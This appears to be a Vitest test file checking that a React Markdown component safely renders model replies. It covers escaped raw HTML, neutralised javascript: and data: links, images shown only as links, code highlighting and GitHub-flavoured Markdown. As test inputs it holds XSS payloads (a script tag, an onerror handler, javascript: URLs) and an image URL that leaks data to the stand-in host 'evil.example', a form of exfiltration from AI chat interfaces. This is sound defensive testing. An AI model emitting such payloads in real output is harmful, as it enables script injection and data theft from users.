import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { loadHighlighter, Markdown, safeUrl } from "./markdown";

test("raw HTML from a model is never rendered as HTML", () => {
  const html = renderToStaticMarkup(
    <Markdown>{'Hello <script>alert(1)</script> <img src=x onerror="alert(2)"> **bold**'}</Markdown>,
  );
  expect(html).not.toContain("<script");
  expect(html).not.toContain("<img");
  expect(html).not.toContain("onerror");
  expect(html).toContain("<strong>bold</strong>");
});

test("javascript: and data: links lose their target; web links open safely", () => {
  const html = renderToStaticMarkup(
    <Markdown>
      {"[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,hi) [d](https://example.com)"}
    </Markdown>,
  );
  expect(html.toLowerCase()).not.toContain("javascript:");
  expect(html).not.toContain("data:text");
  expect(html).toContain('href="https://example.com"');
  expect(html).toContain('rel="noopener noreferrer nofollow"');
});

test("only http(s), mailto and relative URLs survive", () => {
  expect(safeUrl("https://example.com/x")).toBe("https://example.com/x");
  expect(safeUrl("mailto:a@example.com")).toBe("mailto:a@example.com");
  expect(safeUrl("/assistants")).toBe("/assistants");
  expect(safeUrl("javascript:alert(1)")).toBe("");
  expect(safeUrl("vbscript:x")).toBe("");
});

test("code blocks are drawn plain until the highlighter has loaded, then highlighted, with a copy button", async () => {
  const reply = "```js\nconst x = 1;\n```";
  const before = renderToStaticMarkup(<Markdown>{reply}</Markdown>);
  expect(before).not.toContain("hljs");
  expect(before).toContain("const x = 1;");
  expect(before).toContain("Copy code");
  await loadHighlighter();
  const after = renderToStaticMarkup(<Markdown>{reply}</Markdown>);
  expect(after).toContain('class="hljs-keyword"');
  expect(after).toContain("Copy code");
  // Text without a fenced block never asks for it.
  expect(renderToStaticMarkup(<Markdown>{"    indented code"}</Markdown>)).not.toContain("hljs");
});

test("images are shown as links, never loaded by themselves", () => {
  const html = renderToStaticMarkup(<Markdown>{"![secret](https://evil.example/x?d=private)"}</Markdown>);
  expect(html).not.toContain("<img");
  expect(html).toContain('<a href="https://evil.example/x?d=private"');
  expect(html).toContain(">secret</a>");
});

test("GitHub-flavoured Markdown reads as GitHub shows it: tables, task lists, strikethrough, bare links", () => {
  const html = renderToStaticMarkup(
    <Markdown>
      {"| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n~~old~~ see https://example.com"}
    </Markdown>,
  );
  expect(html).toContain("<table>");
  expect(html).toContain("<td>2</td>");
  expect(html).toContain('type="checkbox"');
  expect(html).toContain("<del>old</del>");
  expect(html).toContain('href="https://example.com"');
});
